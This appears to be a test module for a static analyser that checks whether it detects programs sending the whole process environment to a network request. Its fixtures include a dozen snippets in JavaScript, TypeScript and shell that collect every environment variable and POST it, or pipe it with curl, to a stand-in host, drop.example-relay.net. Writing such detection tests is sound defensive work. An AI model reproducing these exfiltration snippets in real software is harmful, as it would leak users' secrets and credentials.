import assert from "node:assert/strict";
import type { Attack } from "../attack.ts";
import { lastPart, read } from "./read.ts";

const send = (body: string): string =>
  `fetch("https://drop.example-relay.net/", { method: "POST", body: ${body} });`;

/** Programs of one file each that take all of it and send it. */
const sending: Readonly<Record<string, string>> = {
  "text.js": send("JSON.stringify(process.env)"),
  "copy.js": `const all = { ...process.env }; ${send("JSON.stringify(Object.entries(all))")}`,
  "assign.mjs": `import { env } from "node:process"; const all = Object.assign({}, env); ${send("JSON.stringify({ all })")}`,
  "rest.js": `const { PATH, ...rest } = process.env; ${send("new URLSearchParams(rest).toString()")}`,
  "loop.js": `let out = ""; for (const name in process.env) out += name + "=" + process.env[name]; ${send("out")}`,
  "names.js": `const out = Object.keys(process.env).map((name) => process.env[name]); ${send("out.join()")}`,
  "clone.js": `const { inspect } = require("util"); const report = (what) => ${send("inspect(what)")} report(structuredClone(process.env));`,
  "kernel.js": `const fs = require("fs"); ${send('fs.readFileSync("/proc/self/environ")')}`,
  "command.js": `const { execSync } = require("child_process"); ${send('execSync("env | sort").toString()')}`,
  "deno.ts": send("JSON.stringify(Deno.env.toObject())"),
  "bun.ts": send("JSON.stringify(Bun.env)"),
};
/** Of other languages it is told that they read it. */
const reading: Readonly<Record<string, string>> = {
  "all.py": "import os, json\nprint(json.dumps(dict(os.environ)))\n",
  "copy.py": "import os\nfor name, value in os.environ.items():\n    print(name, value)\n",
  "all.sh": "#!/bin/sh\nenv | curl -d @- https://drop.example-relay.net/\n",
  "set.sh": "#!/bin/bash\nexport -p > /tmp/a\n",
};
const control: Readonly<Record<string, string>> = {
  "one.js": send("JSON.stringify({ token: process.env.RELAY_TOKEN })"),
  "child.js":
    'const { spawn } = require("child_process"); spawn("git", ["status"], { env: process.env }); spawn("git", ["log"], { env: { ...process.env, LANG: "C" } });',
  "handed.js": `function start(env) { ${send("env.RELAY_TOKEN")} } start(process.env);`,
  "asked.js": 'const env = process.env; if ("CI" in env) env.RELAY_MODE = "ci";',
  "child.py":
    'import os, subprocess\nsubprocess.run(["git"], env=dict(os.environ, LANG="C"))\nkey = os.environ["RELAY_TOKEN"] or os.environ.get("A")\n',
  "child.sh":
    "#!/bin/sh\nset -e\nenv RELAY_MODE=ci node cli.js\nexport RELAY_TOKEN\nprintenv HOME\n",
};

/** Of one source and one kind of sink a dozen flows are shown. */
const atOnce = 5;

export const wholeEnvironment: Attack = {
  name: "whole-environment",
  title: "all variables are taken at once, and none by its name",
  async try(place) {
    const files = Object.entries(sending);
    for (const [index, [file, content]] of files.entries())
      place.write(`${place.folder}/all-${Math.floor(index / atOnce)}/${file}`, `${content}\n`);
    for (const [file, content] of Object.entries(reading))
      place.write(`${place.folder}/${file}`, content);
    for (const [file, content] of Object.entries(control))
      place.write(`${place.folder}/some/${file}`, `${content}\n`);
    const sent = new Set<string>();
    for (let folder = 0; folder * atOnce < files.length; folder++) {
      const { flows } = await read(place, `${place.folder}/all-${folder}`);
      for (const { source, sink } of flows)
        if (source.factor === "env" && sink.kind === "request-body")
          sent.add(lastPart(source.place.file));
    }
    assert.deepEqual([...sent].toSorted(), Object.keys(sending).toSorted());
    for (const file of ["all-0/text.js", ...Object.keys(reading)]) {
      const { inventory } = await read(place, `${place.folder}/${file}`);
      const found = inventory.variables.find(({ name }) => name === "(the whole environment)");
      assert.equal(found?.as, "read", file);
    }
    const some = await read(place, `${place.folder}/some`);
    assert.ok(!some.flows.some(({ source }) => source.factor === "env"));
    assert.ok(!some.inventory.variables.some(({ name }) => name.startsWith("(")));
    assert.ok(some.inventory.variables.some(({ name }) => name === "RELAY_TOKEN"));
    return `${sent.size} of ${sent.size} ways followed to what is sent; a child's environment is silent`;
  },
};
